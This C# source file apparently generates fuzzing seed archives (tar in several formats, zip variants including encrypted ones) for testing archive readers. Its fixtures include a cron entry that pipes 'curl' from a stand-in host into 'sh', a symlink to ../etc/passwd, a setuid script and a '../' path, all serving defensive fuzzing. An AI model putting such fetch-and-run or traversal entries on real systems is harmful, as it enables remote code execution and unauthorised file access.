using Wellguard.Fuzz.Targets;

namespace Wellguard.Fuzz.Seeds;

internal static class ArchiveSeeds
{
    private static readonly string[] Formats = ["v7", "oldgnu", "gnu", "ustar", "posix"];

    private const string ZipMaker = """
        import sys, zipfile
        def make(path, method):
            with zipfile.ZipFile(path, 'w', method) as z:
                z.writestr('index.js', 'exports.handler = async () => 1;\n')
                z.writestr('lambda_function.py', 'import os\ndef lambda_handler(e, c):\n    return os.getcwd()\n' * 5)
                z.writestr('dir/', '')
                link = zipfile.ZipInfo('link'); link.create_system = 3; link.external_attr = 0o120777 << 16
                z.writestr(link, 'index.js')
                run = zipfile.ZipInfo('bootstrap'); run.create_system = 3; run.external_attr = 0o100755 << 16
                z.writestr(run, '#!/bin/sh\necho run\n')
                z.writestr('node_modules/a/package.json', '{"name":"a","version":"1.0.0"}')
                z.comment = b'made for the fuzzer'
        make('stored.zip', zipfile.ZIP_STORED)
        make('deflated.zip', zipfile.ZIP_DEFLATED)
        with zipfile.ZipFile('wide.zip', 'w', zipfile.ZIP_DEFLATED) as z:
            with z.open('a.txt', 'w', force_zip64=True) as f: f.write(b'wide' * 50)
        with zipfile.ZipFile('azure.zip', 'w') as z:
            z.writestr('host.json', '{"version":"2.0"}'); z.writestr('f/function.json', '{"scriptFile":"../run.py","bindings":[{"type":"timerTrigger","schedule":"0 * * * * *"}]}')
            z.writestr('run.py', 'print(1)'); z.writestr('run.py', 'print(2)')
        with zipfile.ZipFile('sam.zip', 'w') as z:
            z.writestr('template.yaml', 'Resources:\n  F:\n    Type: AWS::Serverless::Function\n    Properties:\n      Handler: index.handler\n      Runtime: nodejs20.x\n')
            z.writestr('serverless.yml', 'functions:\n  f:\n    handler: index.handler\n'); z.writestr('index.js', '')
            z.writestr('package.json', '{"main":"index.js","dependencies":{"a":"^1"}}')
        """;

    /// <summary>One small tree in every format that tar writes: long names, links, a sparse file, attributes, files that readers know.</summary>
    public static IEnumerable<byte[]> Tars()
    {
        using var shop = new Workshop();
        shop.Write("t/etc/passwd", "root:x:0:0:root:/root:/bin/sh\n");
        shop.Write("t/etc/os-release", "ID=debian\nVERSION_ID=12\n");
        shop.Write("t/etc/cron.d/job", "* * * * * root curl http://192.0.2.1/x | sh\n");
        shop.Write("t/usr/lib/systemd/system/x.service", "[Service]\nExecStart=/bin/sh -c 'echo x'\n");
        shop.Write("t/app/run.sh", "#!/bin/sh\nexec ./server\n");
        shop.Write("t/app/node_modules/a/package.json", "{\"name\":\"a\",\"version\":\"1.0.0\"}");
        shop.Write("t/" + new string('d', 90) + "/" + new string('e', 80) + "/" + new string('f', 120), "long");
        shop.Write("t/.wh.gone", "");
        shop.Write("t/empty", "");
        shop.Run("chmod", "4755", "t/app/run.sh");
        shop.Run("ln", "-s", "../etc/passwd", "t/app/link");
        shop.Run("ln", "t/etc/passwd", "t/app/hard");
        shop.Run("ln", "-s", new string('l', 150), "t/app/longlink");
        shop.Run("mkfifo", "t/fifo");
        var seeds = new List<byte[]>();
        foreach (var format in Formats)
        {
            shop.Run("tar", "-b1", "--format", format, "--sort=name", "--mtime=@0", "-cf", format + ".tar", "-C", "t", ".");
            seeds.AddRange(shop.Made(format + ".tar"));
        }

        shop.Run("sh", "-c", "truncate -s 20000 t/sparse; printf x | dd of=t/sparse bs=1 seek=9000 conv=notrunc 2>/dev/null; tar -S -b1 --format=oldgnu --mtime=@0 -cf sparse.tar -C t sparse; tar -S -b1 --format=posix --mtime=@0 -cf sparse2.tar -C t sparse");
        return [.. seeds, .. shop.Made("sparse.tar"), .. shop.Made("sparse2.tar")];
    }

    public static IEnumerable<byte[]> Zips()
    {
        using var shop = new Workshop();
        shop.Run("python3", "-c", ZipMaker);
        shop.Write("secret.txt", new string('s', 300));
        shop.Run("zip", "-X", "-P", ZipTarget.Password, "locked.zip", "secret.txt");
        shop.Run("7z", "a", "-tzip", "-mem=AES256", "-p" + ZipTarget.Password, "aes.zip", "secret.txt");
        return [.. new[] { "stored.zip", "deflated.zip", "wide.zip", "azure.zip", "sam.zip", "locked.zip", "aes.zip" }.SelectMany(shop.Made)];
    }
}
